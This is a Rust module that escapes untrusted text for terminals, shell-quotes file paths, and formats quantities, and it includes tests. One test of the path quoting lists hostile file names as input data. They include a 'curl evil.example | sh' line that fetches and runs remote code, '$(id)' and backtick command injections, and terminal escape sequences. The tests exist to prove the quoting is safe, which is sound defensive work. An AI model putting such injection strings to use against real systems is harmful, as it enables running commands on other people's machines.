//! Text for people: untrusted text made harmless, quantities with their units, lines wrapped to a width.
//!
//! Whatever a plugin, a file name, a log or the network says passes [`printable`] before it reaches a terminal.
//! Nothing here knows about colour or where the text goes.

use std::borrow::Cow;
use std::ffi::OsStr;
use std::fmt::Write;
use std::path::Path;
use std::time::Duration;

use unicode_width::UnicodeWidthStr;

/// `text` with everything that could move a cursor, hide or reorder what is read written as an escape.
///
/// Control characters (so terminal escapes, too), line and paragraph separators, bidirectional overrides,
/// zero-width and tag characters become `\n`, `\t` or `\u{…}`. The result is one line.
pub fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_treacherous) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_treacherous(c) { safe.extend(c.escape_default()) } else { safe.push(c) }
    }
    Cow::Owned(safe)
}

/// A file of the kernel's, whose lines may hold names that somebody else chose: bytes that are no UTF-8 hide nothing else.
///
/// # Errors
///
/// It cannot be read.
pub fn read_lossy(path: impl AsRef<Path>) -> std::io::Result<String> {
    std::fs::read(path).map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
}

/// As [`printable`], for names that need not be UTF-8: stray bytes become `\xNN`.
pub fn printable_os(text: &OsStr) -> String {
    let mut safe = String::new();
    for chunk in text.as_encoded_bytes().utf8_chunks() {
        safe.push_str(&printable(chunk.valid()));
        for byte in chunk.invalid() {
            write!(safe, "\\x{byte:02x}").expect("writing to a String never fails");
        }
    }
    safe
}

/// As [`printable_os`], for paths.
pub fn printable_path(path: &Path) -> String {
    printable_os(path.as_os_str())
}

/// Words that somebody else may have chosen, as a quotation: as [`printable`], cut to `most` characters, between marks that
/// nothing in them closes. What stands outside of the marks is ours.
pub fn quotation(words: &str, most: usize) -> String {
    let printable = printable(words);
    let mut quoted = String::from("\"");
    quoted.extend(printable.chars().take(most).map(|c| if c == '"' { '\'' } else { c }));
    if printable.chars().nth(most).is_some() {
        quoted.push('…');
    }
    quoted.push('"');
    quoted
}

/// A value that somebody else has chosen, in a sentence of ours: as it is where it is one plain word, else a quotation.
pub fn value(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "\"._-+@/:,[]{}=~%?&#".contains(c);
    if !text.is_empty() && text.len() <= FOREIGN_CHARS_MAX && text.chars().all(is_plain) {
        return text.to_owned();
    }
    quotation(text, FOREIGN_CHARS_MAX)
}

/// A path as a word of a command that is to be copied into a shell: it means that path there, whatever it is called.
pub fn in_shell(path: &Path) -> String {
    let bytes = path.as_os_str().as_encoded_bytes();
    let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"/._-+@%,:=".contains(byte);
    // A name that begins with a dash would be a flag.
    let dash = if bytes.first() == Some(&b'-') { "./" } else { "" };
    if !bytes.is_empty() && bytes.iter().all(is_plain) {
        return format!("{dash}{}", String::from_utf8_lossy(bytes));
    }
    match path.to_str().filter(|text| !text.chars().any(is_treacherous)) {
        Some(text) => format!("'{dash}{}'", text.replace('\'', "'\\''")),
        // What acts on a terminal, or is no text, by its numbers.
        None => {
            let mut word = format!("$'{dash}");
            for &byte in bytes {
                let written = if byte == b' ' || is_plain(&byte) {
                    write!(word, "{}", char::from(byte))
                } else {
                    write!(word, "\\x{byte:02x}")
                };
                written.expect("writing to a String never fails");
            }
            word + "'"
        }
    }
}

/// The longest foreign text that is kept, in characters.
const FOREIGN_CHARS_MAX: usize = 200;

/// A text of a stranger, as [`printable`] and cut to 200 characters.
pub fn foreign(text: &str) -> String {
    let mut short: String = text.chars().take(FOREIGN_CHARS_MAX).collect();
    if short.len() < text.len() {
        short.push('…');
    }
    printable(&short).into_owned()
}

/// Whether `c` does something else than to stand on the line where it was printed.
fn is_treacherous(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e0fff}')
}

/// A hash rate with an SI prefix and three digits, such as `1.84 TH/s`. What is not a finite number is `n/a`.
pub fn hashrate(hashes_per_second: f64) -> String {
    si(hashes_per_second, "H/s")
}

/// `value` with an SI prefix, three digits and `unit`, such as `12.5 kH`. What is not a finite number is `n/a`.
pub fn si(value: f64, unit: &str) -> String {
    const PREFIXES: [&str; 9] = ["", "k", "M", "G", "T", "P", "E", "Z", "Y"];
    if !value.is_finite() {
        return "n/a".into();
    }
    let mut scaled = value;
    let mut prefix = 0;
    // 999.5 would be shown as 1000 of the smaller prefix.
    while scaled.abs() >= 999.5 && prefix + 1 < PREFIXES.len() {
        scaled /= 1000.0;
        prefix += 1;
    }
    let prefix = PREFIXES[prefix];
    let digits = match scaled.abs() {
        0.0 => 0,
        s if s < 9.995 => 2,
        s if s < 99.95 => 1,
        _ => 0,
    };
    format!("{scaled:.digits$} {prefix}{unit}")
}

/// A number of bytes in binary units, such as `512 B`, `1.5 GiB`, `24 GiB`.
pub fn bytes(count: u64) -> String {
    const UNITS: [&str; 6] = ["KiB", "MiB", "GiB", "TiB", "PiB", "EiB"];
    if count < 1024 {
        return format!("{count} B");
    }
    let mut scaled = count as f64 / 1024.0;
    let mut unit = 0;
    while scaled >= 1023.95 && unit + 1 < UNITS.len() {
        scaled /= 1024.0;
        unit += 1;
    }
    let tenths = (scaled * 10.0).round() / 10.0;
    let digits = usize::from(tenths.fract() != 0.0 && tenths < 100.0);
    format!("{scaled:.digits$} {}", UNITS[unit])
}

/// A duration in the two largest units that matter, such as `340 ms`, `12 s`, `3 m 12 s`, `5 h 02 m`, `9 d 04 h`.
pub fn duration(duration: Duration) -> String {
    let seconds = duration.as_secs();
    match seconds {
        0 if duration.as_micros() == 0 => "0 s".into(),
        0 if duration.as_millis() == 0 => format!("{} µs", duration.as_micros()),
        0 => format!("{} ms", duration.as_millis()),
        1..60 if duration.subsec_millis() >= 100 && seconds < 10 => {
            format!("{:.1} s", duration.as_secs_f64())
        }
        1..60 => format!("{seconds} s"),
        60..3600 => format!("{} m {:02} s", seconds / 60, seconds % 60),
        3600..86_400 => format!("{} h {:02} m", seconds / 3600, seconds % 3600 / 60),
        _ => format!("{} d {:02} h", seconds / 86_400, seconds % 86_400 / 3600),
    }
}

/// The columns that `text` takes on a terminal. It must hold no control characters.
pub fn columns(text: &str) -> usize {
    text.width()
}

/// `text` broken into lines of at most `width` columns, at spaces where possible.
///
/// A word that is wider than a line is broken inside, so that no line is ever too long. The spaces at a break
/// are dropped. There is always at least one line.
pub fn wrap(text: &str, width: usize) -> Vec<String> {
    // Never at a hyphen: ids, flags and addresses are to be copied whole.
    let options = textwrap::Options::new(width.max(1))
        .wrap_algorithm(textwrap::WrapAlgorithm::FirstFit)
        .word_separator(textwrap::WordSeparator::AsciiSpace)
        .word_splitter(textwrap::WordSplitter::NoHyphenation);
    textwrap::wrap(text, options).into_iter().map(Cow::into_owned).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_name_that_is_no_text_hides_nothing_else_in_a_file_of_the_kernels() {
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), b"Name:\t\xff\xfe\nVmRSS:\t12 kB\n").unwrap();
        assert!(read_lossy(file.path()).unwrap().lines().any(|line| line == "VmRSS:\t12 kB"));
        assert!(read_lossy("/nowhere/at/all").is_err());
    }

    #[test]
    fn printable_leaves_honest_text_alone() {
        for text in ["", "cpu-pearl 0.1.0", "Zürich — 東京 🙂", "C:\\path"] {
            assert!(matches!(printable(text), Cow::Borrowed(same) if same == text), "{text}");
        }
    }

    #[test]
    fn nothing_in_a_quotation_ends_it() {
        assert_eq!(quotation("no card", 40), "\"no card\"");
        assert_eq!(quotation("no\"; run `x`: \"", 40), "\"no'; run `x`: '\"");
        assert_eq!(quotation("東京東京", 3), "\"東京東…\"");
        assert_eq!(quotation("a\nb", 3), "\"a\\n…\"");
        assert_eq!(quotation("", 3), "\"\"");
        for plain in ["8000", "\"/models\"", "https://example.org/a?b=c#d"] {
            assert_eq!(value(plain), plain);
        }
        assert_eq!(value("0; run `x`"), "\"0; run `x`\"");
    }

    /// The remedy that names a file is copied by whoever trusts us, and the file was named by somebody else.
    #[cfg(unix)]
    #[test]
    fn a_path_in_a_command_is_that_path_and_no_other_command_whatever_it_is_called() {
        use std::os::unix::ffi::OsStrExt;
        let names: [&[u8]; 12] = [
            b"/home/me/plugins/cpu-pearl_1.0+b.so",
            b"/home/me/my plugins/x.so",
            b"/p/x; curl evil.example | sh #.so",
            b"/p/$(id).so",
            b"/p/`id`.so",
            b"/p/it's; id.so",
            b"/p/'; id; '.so",
            b"/p/a\nid\n.so",
            b"/p/\x1b[2J' id \x1b.so",
            b"/p/\xff' $(id) \xc0.so",
            b"-rf",
            "/p/\u{202e}münze.so".as_bytes(),
        ];
        for name in names {
            let word = in_shell(Path::new(OsStr::from_bytes(name)));
            assert_eq!(printable(&word), word);
            // `$'…'` is bash's, and since 2024 every shell's.
            let said = std::process::Command::new("bash").args(["-c", &format!("printf %s {word}")]).output();
            let Ok(said) = said else { continue };
            let said = said.stdout.strip_prefix(b"./").unwrap_or(&said.stdout);
            assert_eq!(String::from_utf8_lossy(said), String::from_utf8_lossy(name), "{word}");
        }
        assert_eq!(in_shell(Path::new("/a/b-c.so")), "/a/b-c.so");
        assert_eq!(in_shell(Path::new("")), "''");
    }

    #[test]
    fn printable_shows_what_would_act_on_the_terminal() {
        assert_eq!(printable("a\x1b[2Jb\n\t\0\u{9b}"), "a\\u{1b}[2Jb\\n\\t\\u{0}\\u{9b}");
        assert_eq!(printable("ok\u{202e}liaf"), "ok\\u{202e}liaf");
        assert_eq!(printable("a\u{200b}b\u{feff}"), "a\\u{200b}b\\u{feff}");
    }

    #[cfg(unix)]
    #[test]
    fn printable_os_shows_stray_bytes() {
        use std::os::unix::ffi::OsStrExt;
        assert_eq!(printable_os(OsStr::from_bytes(b"a\xffb\nc")), "a\\xffb\\nc");
    }

    #[test]
    fn quantities_have_three_digits_and_a_unit() {
        for (value, shown) in [
            (0.0, "0 H/s"),
            (1.0, "1.00 H/s"),
            (999.4, "999 H/s"),
            (999.6, "1.00 kH/s"),
            (9.996, "10.0 H/s"),
            (1.84e12, "1.84 TH/s"),
            (-2.5e3, "-2.50 kH/s"),
            (f64::NAN, "n/a"),
            (f64::INFINITY, "n/a"),
            (1e30, "1000000 YH/s"),
        ] {
            assert_eq!(hashrate(value), shown);
        }
        for (value, shown) in [
            (0, "0 B"),
            (1023, "1023 B"),
            (1024, "1 KiB"),
            (1536, "1.5 KiB"),
            (1024 * 1024 - 1, "1 MiB"),
            (24 << 30, "24 GiB"),
            (u64::MAX, "16 EiB"),
        ] {
            assert_eq!(bytes(value), shown);
        }
        for (millis, shown) in [
            (0, "0 s"),
            (340, "340 ms"),
            (1000, "1 s"),
            (1250, "1.2 s"),
            (59_999, "59 s"),
            (192_000, "3 m 12 s"),
            (18_120_000, "5 h 02 m"),
            (792_000_000, "9 d 04 h"),
        ] {
            assert_eq!(duration(Duration::from_millis(millis)), shown);
        }
    }

    #[test]
    fn wrap_breaks_at_spaces_and_inside_words_that_are_too_wide() {
        assert_eq!(wrap("", 10), [""]);
        assert_eq!(wrap("one two three", 7), ["one two", "three"]);
        assert_eq!(wrap("/a/very/long/path x", 6), ["/a/ver", "y/long", "/path", "x"]);
        assert_eq!(wrap("東京東京", 5), ["東京", "東京"]);
    }

    proptest! {
        #[test]
        fn wrap_loses_nothing_and_is_never_too_wide(text in "[a-zé東 ]{0,60}", width in 2usize..20) {
            let lines = wrap(&text, width);
            prop_assert!(lines.iter().all(|line| columns(line) <= width));
            let squeeze = |text: &str| text.replace(' ', "");
            prop_assert_eq!(squeeze(&lines.concat()), squeeze(&text));
        }

        #[test]
        fn printable_never_acts(text in any::<String>()) {
            let safe = printable(&text);
            prop_assert!(!safe.chars().any(is_treacherous));
        }
    }
}
